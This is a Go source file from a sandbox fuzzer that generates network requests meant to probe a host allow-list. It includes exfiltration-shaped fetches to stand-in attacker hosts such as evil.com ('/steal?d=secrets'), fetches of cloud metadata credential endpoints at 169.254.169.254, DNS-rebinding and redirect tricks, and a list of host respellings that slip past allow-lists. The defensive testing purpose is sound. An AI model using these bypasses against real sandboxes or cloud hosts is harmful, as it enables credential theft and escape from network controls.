package generators

import (
	"fmt"
	"slices"
	"strings"

	"github.com/sbxfuzz/sbxfuzz/core"
	"github.com/sbxfuzz/sbxfuzz/internal/spec"
	"github.com/sbxfuzz/sbxfuzz/scenario"
)

// safeHost is a granted host that resolves to a public address and has no
// DNS line (so it cannot rebind), starting from a random one.
func safeHost(src Source, sc *scenario.Scenario) (string, bool) {
	if k := grantedAt(src, sc, safe); k >= 0 {
		return sc.Grant.NetHosts[k], true
	}
	return "", false
}

func hasDNS(sc *scenario.Scenario, h string) bool {
	for _, d := range sc.World.DNS {
		if sameName(d.Host, h) {
			return true
		}
	}
	return false
}

// sameName reports whether spec.NormalizeHost(a) == spec.NormalizeHost(b)
// — one trailing dot dropped, ASCII case folded — without allocating.
func sameName(a, b string) bool {
	a, b = strings.TrimSuffix(a, "."), strings.TrimSuffix(b, ".")
	if len(a) != len(b) {
		return false
	}
	for i := 0; i < len(a); i++ {
		if x, y := a[i], b[i]; x != y && (x|0x20 != y|0x20 || x|0x20 < 'a' || x|0x20 > 'z') {
			return false
		}
	}
	return true
}

// routePath is a path the world routes for exactly h, or one of fetchPaths.
func routePath(src Source, sc *scenario.Scenario, h string) string {
	routes := sc.World.Routes
	n := 0
	for _, r := range routes {
		if r.Host == h {
			n++
		}
	}
	if n == 0 {
		return pick(src, fetchPaths)
	}
	k := src.Intn(n)
	for _, r := range routes {
		if r.Host == h {
			if k == 0 {
				return r.Path
			}
			k--
		}
	}
	return "/status"
}

// unknownHostOp fetches from a host outside the grant, often
// exfiltration-shaped: a secret in the path or in a DNS label.
func unknownHostOp(src Source, sc *scenario.Scenario) core.Op {
	var h string
	if oneIn(src, 3) {
		h = relatedHost(src, anyHost(src, sc))
	} else {
		h = pick(src, attackerHosts)
	}
	if slices.Contains(sc.Grant.NetHosts, h) {
		h += ".evil.com"
	}
	p := pick(src, exfilPaths)
	if p == "/log?d=" {
		p += pick(src, outsideFiles[:4]).data
	}
	return fetch(src, h, p)
}

// relatedHost is another name built from a granted one: a suffix, prefix,
// subdomain or parent, or the name with "_" and another domain after it.
func relatedHost(src Source, h string) string {
	switch src.Intn(5) {
	case 0:
		return h + ".evil.com"
	case 4:
		// "_" ends a host read with a pattern of [a-z0-9.-] where a URL
		// parser and the resolver go on, to the attacker's domain.
		return h + "_x.evil.com"
	case 1:
		return "evil" + h
	case 2:
		return "sub." + h
	}
	if i := strings.IndexByte(h, '.'); i >= 0 && strings.IndexByte(h[i+1:], '.') >= 0 {
		return h[i+1:]
	}
	return "evil-" + h
}

// hostVariants respell a granted host. A respelling that changes nothing,
// or is itself granted, is replaced by hostVariantOp.
var hostVariants = []func(h string) string{
	upperASCII,
	titleASCII,
	func(h string) string {
		if strings.HasSuffix(h, ".") {
			return h[:len(h)-1]
		}
		return h + "."
	},
	func(h string) string { return h + ":443" },
	func(h string) string { return h + ":80" },
	func(h string) string { return "user@" + h },
	func(h string) string { return h + "@evil.com" },
	func(h string) string { return " " + h },
	func(h string) string { return h + " " },
	func(h string) string { return h + "\t" },
	func(h string) string { return h + "/" },
	func(h string) string { return h + "#frag" },
	func(h string) string { return h + "?x=1" },
	func(h string) string { return "http://" + h },
	func(h string) string { return h + ".." },
	lowerASCII,
	func(h string) string { return "*." + h },
	func(h string) string { return h + "%00" },
	func(h string) string { return "[" + h + "]" },
	func(h string) string { return "https://" + h + "/" },
	func(h string) string { return h + "\r\n" },
	func(h string) string { return h + "\n" }, // a regexp's "$" matches before it
	percentOne,
	unicodeForm,
	dotAsDash,
}

// dotAsDash writes h's first dot as a dash (api-example.com for
// api.example.com, a name anyone may register): an allow-list whose
// entries are matched as regular expressions, the dots unescaped, lets it
// through. A host without a dot is left as it is.
func dotAsDash(h string) string {
	if i := strings.IndexByte(h, '.'); i >= 0 {
		return h[:i] + "-" + h[i+1:]
	}
	return h
}

// percentOne percent-encodes h's first dot (its first byte when it has
// none): a guard that decodes the host before its grant check, as a URL
// parser does (a%2etest is a.test to WHATWG), lets it through.
func percentOne(h string) string {
	if i := strings.IndexByte(h, '.'); i >= 0 {
		return h[:i] + "%2e" + h[i+1:]
	}
	if h == "" {
		return "%2e"
	}
	return fmt.Sprintf("%%%02X", h[0]) + h[1:]
}

// unicodeForm is h with its IDNA A-labels written as the Unicode labels
// they encode, a host a guard that encodes hosts as a URL parser does
// (bücher.example is xn--bcher-kva.example to WHATWG and Python's idna)
// lets through; no grant holds it byte for byte. A host without one of
// aLabels gets a subdomain instead.
func unicodeForm(h string) string {
	for _, l := range aLabels {
		if a, ok := strings.CutPrefix(h, l.ascii+"."); ok {
			return l.unicode + "." + a
		}
	}
	return "www." + h
}

// isALabeled reports whether h begins with an IDNA A-label.
func isALabeled(h string) bool { return strings.HasPrefix(h, "xn--") }

// hostVariantOp fetches a routed path from a respelling of a granted host:
// the router and resolver fold case and a trailing dot, the grant must not.
func hostVariantOp(src Source, sc *scenario.Scenario) core.Op {
	h := anyHost(src, sc)
	v := pick(src, hostVariants)(h)
	if isALabeled(h) && oneIn(src, 2) {
		v = unicodeForm(h) // the grant's own shape, which the other variants seldom meet
	}
	if v == h || slices.Contains(sc.Grant.NetHosts, v) { // no grant may hold '@'
		v = "user@" + h
	}
	return fetch(src, v, routePath(src, sc, h))
}

// ipOp fetches an address spelled as inet_aton or IPv6 allows: mostly a
// granted probe of the internal-range table (ranges.go) or another granted
// spelling, otherwise one from the tables.
func ipOp(src Source, sc *scenario.Scenario) core.Op {
	var h string
	switch r := src.Intn(12); {
	case r < 9:
		h = nextProbe(src, sc)
		if h == "" || r == 8 {
			h = grantedWhere(src, sc, ipSpelled)
		}
		if h == "" {
			h = pick(src, ipHosts)
		}
	case r < 10:
		h = pick(src, ipHosts)
	case r < 11:
		h = pick(src, ipOpOnly)
	default:
		h = pick(src, ipNearMisses)
	}
	return fetch(src, h, []string{"/", "/status", "/admin"}[src.Intn(3)])
}

// isIPSpelling reports whether h is an address literal to the resolver.
func isIPSpelling(h string) bool {
	if h == "" || !(isDigit(h[0]) || h[0] == '[' || strings.IndexByte(h, ':') >= 0) {
		return false
	}
	n := spec.NormalizeHost(h)
	if _, ok := spec.ParseInetAton(n); ok {
		return true
	}
	_, ok := spec.ParseIPv6Literal(n)
	return ok
}

func isDigit(c byte) bool { return '0' <= c && c <= '9' }

// metadataOp fetches credentials from a metadata endpoint: mostly a granted
// one (a careless allow-list), otherwise one from the table.
func metadataOp(src Source, sc *scenario.Scenario) core.Op {
	h := ""
	if src.Intn(2) == 0 {
		h = grantedWhere(src, sc, metadata)
	}
	if h == "" {
		h = pick(src, metadataHosts)
	}
	if src.Intn(3) == 0 {
		return fetch(src, h, routePath(src, sc, h)) // where a leak would return credentials
	}
	return fetch(src, h, pick(src, metadataPaths))
}

// rebindOp fetches a granted name whose DNS answers alternate; now and then
// a case variant or an ungranted DNS name, which must consume no answer.
func rebindOp(src Source, sc *scenario.Scenario) core.Op {
	h := ""
	r := src.Intn(10)
	if r < 4 {
		h = grantedWhere(src, sc, probe) // a probe name of ranges.go, when the grant has one
		if h != "" && !hasDNS(sc, h) {
			h = ""
		}
	}
	if h == "" {
		h = grantedWhere(src, sc, dnsLined)
	}
	switch {
	case h == "" || r == 9:
		if dns := sc.World.DNS; len(dns) > 0 {
			h = pick(src, dns).Host
		} else {
			h = pick(src, rebinders).host
		}
	case r == 8:
		h = upperASCII(h)
	}
	return fetch(src, h, []string{"/data", "/status", "/missing"}[src.Intn(3)])
}

// redirectOp fetches a redirect route of a granted host: the fetch is
// allowed, and its answer names a Location (an internal address, a
// metadata endpoint, an ungranted host) that a sandbox that follows
// redirects must check as it checked the first. With no such route, a
// granted host's redirect path, which no route answers. Now and then a
// path that carries another host (authorityPaths).
func redirectOp(src Source, sc *scenario.Scenario) core.Op {
	if oneIn(src, 5) {
		return fetch(src, grantedOr(src, sc), pick(src, authorityPaths))
	}
	routes := sc.World.Routes
	for i, j := 0, src.Intn(len(routes)+1); i < len(routes); i++ {
		r := routes[(i+j)%len(routes)]
		if r.Redirect && slices.Contains(sc.Grant.NetHosts, r.Host) {
			return fetch(src, r.Host, r.Path)
		}
	}
	return fetch(src, anyHost(src, sc), redirectPath)
}

// authorityPaths are paths of a granted host that carry another host,
// which a sandbox that joins the path to a base URL (a network-path
// reference), or cuts a user-info at its first "@", fetches instead: the
// fetch is the granted host's, its path a route of none.
var authorityPaths = []string{"//evil.com/steal?d=secrets", "//169.254.169.254/latest/meta-data/",
	"/x@evil.com/steal?d=secrets", "/?u=x@169.254.169.254/latest/meta-data/", "///evil.com/steal?d=secrets"}

// grantedOr is a safe granted host when there is one, else any host.
func grantedOr(src Source, sc *scenario.Scenario) string {
	if h, ok := safeHost(src, sc); ok {
		return h
	}
	return anyHost(src, sc)
}

// lowerASCII lowers the ASCII letters of s and leaves every other byte as
// it is: the folding DNS does, where strings.ToLower would fold Unicode
// letters too and rewrite invalid UTF-8.
func lowerASCII(s string) string {
	b := []byte(s)
	for i, c := range b {
		if 'A' <= c && c <= 'Z' {
			b[i] = c + 'a' - 'A'
		}
	}
	return string(b)
}
